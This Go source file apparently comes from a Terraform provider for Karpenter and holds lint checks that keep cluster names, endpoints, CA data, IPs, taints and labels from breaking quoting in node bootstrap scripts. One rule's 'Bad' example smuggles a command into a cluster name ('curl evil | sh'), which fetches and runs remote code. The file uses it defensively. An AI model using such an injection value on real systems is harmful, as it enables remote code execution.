package lint

import (
	"encoding/base64"
	"maps"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"

	"k8s.io/apimachinery/pkg/util/validation"

	"github.com/karpenter-tf/terraform-provider-karpenter/internal/rules"
	"github.com/karpenter-tf/terraform-provider-karpenter/internal/taints"
)

// Every value written into a script is checked here first. The checks are
// stricter than quoting needs: a value that passes cannot contain a quote,
// `$`, backtick, backslash, whitespace or control character, so it can
// neither end the quoting nor start an expansion, in bash or PowerShell.

var eksClusterNameRE = regexp.MustCompile(`^[0-9A-Za-z][A-Za-z0-9_-]{0,99}$`)

// ScriptSafe reports whether s is printable ASCII without quotes, `$`,
// backtick, backslash or whitespace.
func ScriptSafe(s string) bool {
	for _, c := range []byte(s) {
		if c <= ' ' || c >= 0x7f || strings.IndexByte("'\"`$\\", c) >= 0 {
			return false
		}
	}
	return true
}

func CheckClusterName(name string, p rules.Path, what string) rules.Findings {
	switch {
	case name == "":
		return rules.Findings{rules.New(RuleInputMissing, p, "The %s is empty. Set it to the EKS cluster name, e.g. \"my-cluster\".", what)}
	case !eksClusterNameRE.MatchString(name):
		return rules.Findings{rules.New(RuleValueUnsafe, p,
			"The %s %q is not an EKS cluster name (1-100 characters: letters, digits, `-` and `_`, starting with a letter or digit). It is written into a single-quoted script argument, where anything else could end the quoting; use the name exactly as `aws eks describe-cluster` shows it.", what, name)}
	}
	return nil
}

func CheckEndpoint(endpoint string, p rules.Path, what string) rules.Findings {
	if endpoint == "" {
		return nil
	}
	u, err := url.Parse(endpoint)
	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || !ScriptSafe(endpoint) {
		return rules.Findings{rules.New(RuleValueUnsafe, p,
			"The %s %q is not a plain http(s) URL without quotes, `$`, backticks, backslashes or whitespace. It is written into a single-quoted script argument; use the endpoint exactly as EKS reports it, e.g. \"https://ABCDEF.gr7.us-west-2.eks.amazonaws.com\".", what, endpoint)}
	}
	return nil
}

func CheckCA(ca string, p rules.Path, what string) rules.Findings {
	if ca == "" {
		return nil
	}
	if !ScriptSafe(ca) {
		return rules.Findings{rules.New(RuleValueUnsafe, p,
			"The %s contains whitespace, a quote, `$`, a backtick or a backslash. It is written into a single-quoted script argument; pass the single-line base64 value exactly as `aws eks describe-cluster` returns it (cluster.certificateAuthority.data).", what)}
	}
	if _, err := base64.StdEncoding.DecodeString(ca); err != nil {
		return rules.Findings{rules.New(RuleCANotBase64, p,
			"The %s is not base64 (%v). Karpenter fails with \"decoding CABundle\" and bootstrap.sh writes a broken /etc/kubernetes/pki/ca.crt; pass the base64-encoded PEM bundle (cluster.certificateAuthority.data), not the PEM text.", what, err)}
	}
	return nil
}

func CheckIP(ip string, p rules.Path, what string) rules.Findings {
	if _, err := netip.ParseAddr(ip); err != nil || !ScriptSafe(ip) {
		return rules.Findings{rules.New(RuleValueUnsafe, p,
			"The %s %q is not an IP address. It becomes --dns-cluster-ip/clusterDNS; write the kube-dns service address, e.g. \"172.20.0.10\".", what, ip)}
	}
	return nil
}

// CheckTaints validates taints a node registers with; p addresses the list.
func CheckTaints(ts []taints.Taint, p rules.Path) rules.Findings {
	var out rules.Findings
	for i, t := range ts {
		for _, fe := range t.Validate() {
			out = append(out, rules.New(RuleTaintInvalid, p.Index(i).Attr(fe.Field),
				"Taint %s has %s %q: %s. The kubelet rejects it in --register-with-taints (or the API server rejects the Node), so the node never registers; %s",
				QuoteTaint(t), fe.Field, fe.Value, fe.Reason, taintFix(fe.Field)))
		}
	}
	return out
}

func QuoteTaint(t taints.Taint) string { return "\"" + t.String() + "\"" }

func taintFix(field string) string {
	switch field {
	case "key":
		return "use a qualified name such as \"example.com/dedicated\" (optional DNS prefix, then a name of letters, digits, `-`, `_`, `.`)."
	case "value":
		return "use a label value: at most 63 letters, digits, `-`, `_` or `.`, starting and ending alphanumeric, no `/`; or leave it null."
	}
	return "set effect to NoSchedule, PreferNoSchedule or NoExecute."
}

// CheckLabels validates labels the kubelet gets with --node-labels.
func CheckLabels(m map[string]string, p rules.Path) rules.Findings {
	var out rules.Findings
	for _, k := range slices.Sorted(maps.Keys(m)) {
		v := m[k]
		if errs := validation.IsQualifiedName(k); len(errs) > 0 {
			out = append(out, rules.New(ruleLabelInvalid, p.Key(k),
				"Label key %q is invalid (%s): the kubelet exits with \"invalid node labels\"; use a qualified name such as \"example.com/team\".", k, strings.Join(errs, "; ")))
		}
		if errs := validation.IsValidLabelValue(v); len(errs) > 0 {
			out = append(out, rules.New(ruleLabelInvalid, p.Key(k),
				"Label %q has value %q, which is invalid (%s): the kubelet exits with \"invalid node labels\"; use at most 63 letters, digits, `-`, `_` or `.`, starting and ending alphanumeric.", k, v, strings.Join(errs, "; ")))
		}
	}
	return out
}

var kubeletMapTokenRE = regexp.MustCompile(`^[A-Za-z0-9._%+-]+$`)

// CheckKubeletMap validates a map-valued kubelet setting, rendered as
// --name="k=v,..." inside the single-quoted extra args.
func CheckKubeletMap(m map[string]string, p rules.Path, name string) rules.Findings {
	var out rules.Findings
	for _, k := range slices.Sorted(maps.Keys(m)) {
		if !kubeletMapTokenRE.MatchString(k) || !kubeletMapTokenRE.MatchString(m[k]) {
			out = append(out, rules.New(RuleValueUnsafe, p.Key(k),
				"kubelet %s entry %q = %q contains characters other than letters, digits, `.`, `_`, `%%`, `+` and `-`. It is rendered inside the single-quoted --kubelet-extra-args; write a signal or resource name and a quantity, e.g. \"memory.available\" = \"500Mi\".", name, k, m[k]))
		}
	}
	return out
}

// The rules the checks of this file emit.
var (
	RuleValueUnsafe = rules.Register(rules.Rule{
		ID: "script-value-unsafe", Severity: rules.Error, Category: category,
		Title:     "value cannot be placed safely into the bootstrap script",
		Behaviour: "Cluster name, endpoint, CA and DNS address are written into single-quoted shell/PowerShell arguments; a quote, `$(`, backtick, whitespace or newline would end the quoting or change the command, and is never a valid cluster fact anyway.",
		Source:    "Karpenter eksbootstrap.go/windows.go ('%s' formatting); EKS cluster name pattern",
		Bad:       bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster'; curl evil | sh; '"`),
		Good:      bootstrapClass(`format = "bootstrap.sh"`, `cluster_name = "my-cluster"`),
	})
	RuleCANotBase64 = rules.Register(rules.Rule{
		ID: "cluster-ca-not-base64", Severity: rules.Error, Category: category,
		Title:     "certificate authority is not base64",
		Behaviour: "Karpenter base64-decodes the CA bundle for AL2023 and fails with `decoding CABundle`; bootstrap.sh pipes it through `base64 -d` and writes a broken ca.crt.",
		Source:    "Karpenter bootstrap/nodeadm.go getNodeConfigYAML; bootstrap.sh",
		Bad:       "# certificate_authority cut short when copied\n" + bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, `certificate_authority = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tC"`, eksCIDR),
		Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
	})
)

var RuleInputMissing = rules.Register(rules.Rule{
	ID: "bootstrap-input-missing", Severity: rules.Error, Category: category,
	Title:     "cluster fact the bootstrap format requires is missing",
	Behaviour: "Without the cluster name the node cannot build its kubeconfig; nodeadm rejects a NodeConfig without name, apiServerEndpoint or certificateAuthority (`nodeadm init` fails validation) and Bottlerocket without cluster-name, api-server and cluster-certificate never joins.",
	Source:    "amazon-eks-ami nodeadm api validation; Bottlerocket settings.kubernetes",
	Bad:       bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksCIDR),
	Good:      bootstrapClass(`format = "nodeadm"`, `cluster_name = "my-cluster"`, eksEndpoint, eksCA, eksCIDR),
})
